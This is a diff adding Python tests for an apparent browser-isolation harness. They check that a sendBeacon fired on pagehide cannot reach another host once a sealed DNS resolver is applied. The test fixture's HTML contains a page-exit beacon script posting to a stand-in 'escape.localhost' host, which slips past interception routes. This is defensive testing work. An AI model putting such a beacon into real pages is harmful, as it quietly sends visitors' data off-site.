@@ -124,3 +124,106 @@ def test_every_channel_off_the_site_is_refused_and_counted(hostile: HostileSite,
         ("WEBSOCKET", f"ws://127.0.0.1:{hostile.ports[0]}/echo") in blocked, blocked
     assert interceptor.blocked[OTHER] >= 6, interceptor.summary()  # fetch, beacon, image, es, worker, prefetch, ws
     assert {("POST", f"http://{OTHER}/f"), ("POST", f"http://{OTHER}/b"), ("GET", f"http://{OTHER}/w")} <= set(blocked)
+
+
+LEAVING = """<!doctype html><title>leaving</title><body><a id="away" href="/away">away</a><script>
+addEventListener('pagehide', () => navigator.sendBeacon('http://escape.localhost:%(sink)s/b', 'bye'));
+</script></body>"""
+
+
+@pytest.fixture
+def sink() -> Generator[tuple[int, list[float]], None, None]:
+    """A local socket behind a host name Chromium resolves to loopback by itself (``*.localhost``): a
+    connection to it is a request that went around the routes to "the network"."""
+    import socket
+    import time
+
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(20)
+    server.settimeout(0.2)
+    hits: list[float] = []
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            hits.append(time.monotonic())
+            conn.close()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], hits
+    stop.set()
+    thread.join(2)
+    server.close()
+
+
+def _leave_pages(launch: dict, site_url: str, harness_url: str, playwright) -> Interceptor:
+    browser = playwright.chromium.launch(**launch)
+    try:
+        interceptor = Interceptor(harness_url=harness_url, site_url=site_url, vendors=[])
+        context = interceptor.attach(browser.new_context(service_workers="block"))
+        page = context.new_page()
+        for _ in range(3):
+            page.goto(site_url + "/leaving")
+            page.click("#away")
+            page.wait_for_url("**/away")
+        context.close()
+    finally:
+        browser.close()
+    return interceptor
+
+
+def test_a_beacon_sent_as_the_page_is_left_cannot_reach_another_host(playwright, harness_server,
+                                                                      sink: tuple[int, list[float]]) -> None:
+    """Playwright's routes never see a sendBeacon made in pagehide (measured: without the seal it connects to
+    the host, around the routes). The sealed resolver of site mode (every name but the site's, the allowed
+    ones and the harness's resolves nowhere) stops it at the name."""
+    from aiohttp import web as aioweb
+
+    from harness.browser import launch_args, resolver_rules, seal_hosts
+
+    port, hits = sink
+    async def leaving(request: aioweb.Request) -> aioweb.Response:
+        return aioweb.Response(text=LEAVING % {"sink": port}, content_type="text/html")
+
+    async def away(request: aioweb.Request) -> aioweb.Response:
+        return aioweb.Response(text="<title>away</title>", content_type="text/html")
+
+    app = aioweb.Application()
+    app.router.add_get("/leaving", leaving)
+    app.router.add_get("/away", away)
+    with _Served(app) as site_url:
+        open_rules = _leave_pages(launch_args(), site_url, harness_server.base_url, playwright)
+        escaped = len(hits)
+        sealed = resolver_rules(sealed_to=seal_hosts(site_url, harness_server.base_url))
+        _leave_pages(launch_args(extra_args=[sealed]), site_url, harness_server.base_url, playwright)
+    assert escaped >= 1, f"the unsealed browser's pagehide beacon went around the routes ({open_rules.summary()})"
+    assert len(hits) == escaped, f"{len(hits) - escaped} connection(s) left the sealed browser"
+
+
+class _Served:
+    """An aiohttp app on a free 127.0.0.1 port in a thread of its own."""
+
+    def __init__(self, app: web.Application) -> None:
+        self.app, self.loop = app, asyncio.new_event_loop()
+
+    def __enter__(self) -> str:
+        threading.Thread(target=self.loop.run_forever, daemon=True).start()
+
+        async def start() -> int:
+            self.runner = web.AppRunner(self.app)
+            await self.runner.setup()
+            await web.TCPSite(self.runner, "127.0.0.1", 0).start()
+            return self.runner.addresses[0][1]
+
+        port = asyncio.run_coroutine_threadsafe(start(), self.loop).result(timeout=30)
+        return f"http://127.0.0.1:{port}"
+
+    def __exit__(self, *exc: object) -> None:
+        asyncio.run_coroutine_threadsafe(self.runner.cleanup(), self.loop).result(timeout=30)
+        self.loop.call_soon_threadsafe(self.loop.stop)
